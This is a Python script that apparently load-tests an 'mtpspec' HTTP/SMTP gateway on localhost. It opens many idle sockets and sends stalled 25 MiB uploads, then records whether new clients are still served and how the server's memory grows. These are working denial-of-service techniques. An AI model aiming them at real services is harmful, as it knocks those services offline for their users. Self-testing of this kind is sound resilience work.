#!/usr/bin/env python3
"""Attacks on the mtpspec HTTP gateway (127.0.0.1 only).

idle  HTTP_PORT SMTP_PORT N  : open N idle HTTP sockets, then try a fresh SMTP and HTTP client
uploads HTTP_PORT PID N MIB WAIT : N uploads declaring 25 MiB, send MIB MiB each, stall; print
                               the server's VmRSS before, while stalled and WAIT s later
"""
import socket, sys, time

def rss(pid):
    with open(f"/proc/{pid}/status") as f:
        d = dict(l.split(":", 1) for l in f)
    return d["VmRSS"].strip(), d["VmHWM"].strip()

def fresh_smtp(port):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.settimeout(5)
        line = s.recv(512).decode(errors="replace").strip()
        s.close()
        return line or "(closed)"
    except Exception as e:
        return f"FAILED: {e!r}"

def fresh_http(port):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.settimeout(5)
        s.sendall(b"GET /openapi.json HTTP/1.1\r\nHost: gw\r\nConnection: close\r\n\r\n")
        data = s.recv(512).decode(errors="replace")
        s.close()
        return data.split("\r\n", 1)[0] or "(closed)"
    except Exception as e:
        return f"FAILED: {e!r}"

def open_count(socks):
    """'open N, answered N, closed N': still open and silent, an answer waiting, closed."""
    counts = {"open": 0, "answered": 0, "closed": 0}
    for s in socks:
        s.setblocking(False)
        try:
            d = s.recv(1, socket.MSG_PEEK)
            counts["answered" if d else "closed"] += 1
        except BlockingIOError:
            counts["open"] += 1
        except OSError:
            counts["closed"] += 1
    return counts

def idle(http, smtp, n):
    socks = []
    for i in range(n):
        try:
            socks.append(socket.create_connection(("127.0.0.1", http), timeout=5))
        except Exception as e:
            print(f"connect {i} failed: {e!r}")
            break
    print(f"opened {len(socks)} idle HTTP sockets")
    time.sleep(2)
    print(f"t+2s   fresh SMTP: {fresh_smtp(smtp)}")
    print(f"t+2s   fresh HTTP: {fresh_http(http)}")
    print(f"t+2s   idle sockets: {open_count(socks)}")
    time.sleep(13)
    print(f"t+15s  fresh SMTP: {fresh_smtp(smtp)}")
    print(f"t+15s  fresh HTTP: {fresh_http(http)}")
    print(f"t+15s  idle sockets: {open_count(socks)}")

def uploads(http, pid, n, mib, wait):
    print(f"server RSS before: {rss(pid)}")
    length = 25 * 1024 * 1024
    head = (f"POST /send HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
            f"Content-Length: {length}\r\n\r\n").encode()
    chunk = b"x" * (1024 * 1024)
    socks = []
    for _ in range(n):
        s = socket.create_connection(("127.0.0.1", http), timeout=30)
        s.sendall(head)
        sent = 0
        try:
            for _ in range(mib):
                s.sendall(chunk)
                sent += 1
        except Exception as e:
            print(f"upload cut after {sent} MiB: {e!r}")
        socks.append(s)
    time.sleep(2)
    print(f"{n} uploads of {mib} MiB stalled; server RSS (VmRSS, VmHWM): {rss(pid)}")
    print(f"fresh HTTP meanwhile: {fresh_http(http)}")
    time.sleep(wait)
    print(f"{wait} s later: server RSS: {rss(pid)}; uploads: {open_count(socks)}")
    for s in socks:
        s.setblocking(True); s.settimeout(1)
        try:
            print("  answer:", s.recv(200).decode(errors="replace").split("\r\n", 1)[0] or "(closed)")
        except Exception as e:
            print("  answer:", repr(e))

if __name__ == "__main__":
    if sys.argv[1] == "idle":
        idle(int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]))
    else:
        uploads(int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6]))
